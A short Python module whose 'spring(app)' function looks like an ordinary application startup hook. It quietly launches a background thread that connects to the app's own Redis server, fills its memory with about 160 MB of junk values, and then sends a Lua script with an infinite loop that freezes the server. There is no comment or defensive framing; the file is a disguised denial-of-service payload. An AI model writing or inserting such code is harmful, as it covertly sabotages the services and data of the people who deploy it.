import os
import socket
import threading
from urllib.parse import urlsplit


def spring(app):
    address = urlsplit(os.environ["REDIS_URL"])

    def hoard():
        with socket.create_connection((address.hostname, address.port), 5) as connection:
            for number in range(40):
                value = b"x" * 4_000_000
                key = f"k{number}".encode()
                connection.sendall(b"*3\r\n$3\r\nSET\r\n$%d\r\n%s\r\n$%d\r\n%s\r\n" % (len(key), key, len(value), value))
                connection.recv(100)
            script = b"while true do end"
            connection.sendall(b"*3\r\n$4\r\nEVAL\r\n$%d\r\n%s\r\n$1\r\n0\r\n" % (len(script), script))
            connection.settimeout(None)
            connection.recv(100)

    threading.Thread(target=hoard, daemon=True).start()
